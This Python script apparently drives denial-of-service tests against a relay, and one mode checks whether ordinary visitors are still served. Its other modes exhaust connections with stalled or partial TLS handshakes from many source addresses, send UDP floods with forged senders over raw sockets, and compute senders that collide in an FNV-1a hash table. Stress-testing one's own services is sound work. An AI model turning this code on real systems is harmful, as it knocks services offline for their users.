#!/usr/bin/python3
"""Crowds of strangers, from many networks: strangers.py CASE RELAY arguments…, while the attack goes on. At last "rate N".

	fill  PORTS COUNT SOURCES TEXT [RATE]  COUNT connections from SOURCES addresses, spread over PORTS; each says TEXT (with \\r, \\n, \\xNN, or
	                                       hello:NAME: the first half of a ClientHello, whole:NAME: all of it) and then nothing; who is sent away comes again. RATE: at
	                                       most so many a second; default: without a pause
	churn PORTS COUNT SOURCES TEXT RATE    RATE connections a second; when there are COUNT, the oldest leave
	stall PORT COUNT SOURCES TEXT          the same, and each reads nothing
	come  PORT COUNT FROM TEXT             no attack: COUNT visitors one after another, from FROM and the addresses behind it; each says TEXT and
	                                       takes 1,024 bytes. Says "rate" how many got them
	storm PORTS SOURCES TEXT               each connection says TEXT, waits for the answer's end, and comes again: 100 at a time
	udp   PORT SOURCES BYTES [chosen]      packets whose senders are forged; chosen: all in one place of a table by FNV-1a
"""
import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import time

from attack import goes_on, ready, seconds, stranger

case, relay = sys.argv[1:3]
arguments = sys.argv[3:]
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
SLOW = float(os.environ.get("SLOW", "1"))
BIND_ADDRESS_NO_PORT = 24
BASE = 11 << 24 | 64 << 16


def client_hello(name):
	context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
	out = ssl.MemoryBIO()
	try:
		context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
	except ssl.SSLWantReadError:
		pass
	return out.read()


def unescape(text):
	if text.startswith("hello:"):
		whole = client_hello(text[6:])
		return whole[:len(whole) // 2]
	if text.startswith("whole:"):
		return client_hello(text[6:])
	return text.encode().decode("unicode_escape").encode("latin-1")


class Crowd:
	def __init__(self, ports, sources, text, reads=True, again=True):
		self.ports, self.sources, self.text = [int(p) for p in ports.split(",")], int(sources), unescape(text)
		self.reads, self.again = reads, again
		self.look, self.held, self.opened, self.next = select.epoll(), {}, 0, 0
		self.answered = 0

	def open_one(self):
		s = socket.socket()
		s.setblocking(False)
		s.setsockopt(socket.SOL_IP, BIND_ADDRESS_NO_PORT, 1)
		if not self.reads:
			s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
		s.bind((stranger(self.next % self.sources), 0))
		self.next += 1
		error = s.connect_ex((relay, self.ports[self.next % len(self.ports)]))
		if error not in (0, 115):
			s.close()
			return False
		self.held[s.fileno()] = s
		self.look.register(s, select.EPOLLOUT | select.EPOLLIN)
		self.opened += 1
		return True

	def end(self, s):
		self.look.unregister(s)
		del self.held[s.fileno()]
		s.close()

	def turn(self, seconds):
		for fd, event in self.look.poll(seconds, 1000):
			s = self.held[fd]
			try:
				if event & select.EPOLLOUT:
					s.send(self.text)
					self.look.modify(s, select.EPOLLIN if self.reads else 0)
				elif event & (select.EPOLLERR | select.EPOLLHUP) and not self.reads:
					self.end(s)
				elif not s.recv(65536):
					self.answered += 1
					self.end(s)
			except BlockingIOError:
				pass
			except OSError:
				self.end(s)

	def work(self, count, rate=0, churn=False, enough=0):
		"""The height is reached when enough were opened, or, where that is not given, when count are held or twice as many were opened."""
		height = False
		while goes_on() or not height:
			if not height and (self.opened >= (enough or 2 * count) or len(self.held) >= count and not enough or seconds() > 20):
				height = True
				ready()
			room = min(200, 200 if churn else count - len(self.held))
			if rate:
				room = min(room, int(seconds() * rate) - self.opened)
			for _ in range(len(self.held) + room - count if churn else 0):
				self.end(next(iter(self.held.values())))
			for _ in range(room):
				if not self.open_one():
					break
			self.turn(0.001 if room > 0 else 0.02)
		return self.opened / seconds()


def fill(ports, count, sources, text, rate=0):
	crowd = Crowd(ports, sources, text)
	rate = crowd.work(int(count), int(rate), enough=3000 if int(rate) else 0)
	print("held %d" % len(crowd.held))
	return rate


def churn(ports, count, sources, text, rate):
	return Crowd(ports, sources, text).work(int(count), int(rate), churn=True)


def stall(port, count, sources, text):
	crowd = Crowd(port, sources, text, reads=False)
	crowd.work(int(count))
	print("held %d" % len(crowd.held))
	return len(crowd.held)


def come(port, count, first, text):
	served, said = 0, unescape(text)
	for i in range(int(count)):
		address = socket.inet_ntoa(struct.pack(">I", struct.unpack(">I", socket.inet_aton(first))[0] + i))
		try:
			with socket.create_connection((relay, int(port)), 20 * SLOW, (address, 0)) as s:
				s.sendall(said)
				got = 0
				while got < 1024:
					piece = s.recv(1024)
					if not piece:
						break
					got += len(piece)
				served += got >= 1024
		except OSError as e:
			print("%s: %s" % (address, e))
	return served


def storm(ports, sources, text):
	return Crowd(ports, sources, text).work(100, enough=2000)


# ---- UDP

PRIME, MASK = 16777619, (1 << 14) - 1


def mix(state, data):
	for byte in data:
		state = (state ^ byte) * PRIME & MASK
	return state


def chosen_senders(count, visited):
	"""Senders (address, port) whose FNV-1a over address (16 bytes), port and the visited port, both in host order, agree in their low 14 bits."""
	inverse = pow(PRIME, -1, 1 << 14)
	wanted = 0
	for byte in reversed(struct.pack("=H", visited)):
		wanted = wanted * inverse & MASK ^ byte
	before = wanted * inverse & MASK  # what the state, xored with the port's second byte, must have been
	found, i = [], 0
	while len(found) < count:
		address = struct.pack(">I", BASE + i)
		i += 1
		state = mix(2166136261 & MASK, address + bytes(12))
		for first in range(256):
			second = (state ^ first) * PRIME & MASK ^ before
			if second < 256 and (first | second << 8) > 1024:
				found.append((address, first | second << 8))
	return found[:count]


def udp(port, sources, size, how="random"):
	"""A sender's packets are forged by hand, so that there need not be a socket for each."""
	port, sources, body = int(port), int(sources), b"x" * int(size)
	senders = chosen_senders(sources, port) if how == "chosen" else \
		[(struct.pack(">I", BASE + i * 257 % (1 << 22)), 1025 + i % 60000) for i in range(sources)]
	s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
	to, length = socket.inet_aton(relay), 28 + len(body)
	packets = [struct.pack(">BBHHHBBH4s4sHHHH", 0x45, 0, length, 0, 0, 64, 17, 0, address, to, number, port, 8 + len(body), 0) + body
		for address, number in senders]
	random.Random(1).shuffle(packets)
	sent = 0
	ready()
	while goes_on():
		for packet in packets[sent % len(packets):][:256]:
			try:
				s.sendto(packet, (relay, 0))
				sent += 1
			except OSError:
				time.sleep(0.001)
	return sent / seconds()


print("rate %d" % globals()[case](*arguments))
